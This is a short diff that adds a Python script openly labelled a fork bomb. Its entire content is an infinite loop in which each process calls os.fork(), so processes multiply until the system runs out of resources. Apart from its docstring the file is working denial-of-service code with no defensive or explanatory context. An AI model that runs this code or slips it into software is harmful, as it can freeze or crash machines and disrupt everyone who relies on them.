@@ -1,0 +1,6 @@
+"""A fork bomb: every copy forks again, for ever."""
+
+import os
+
+while True:
+    os.fork()
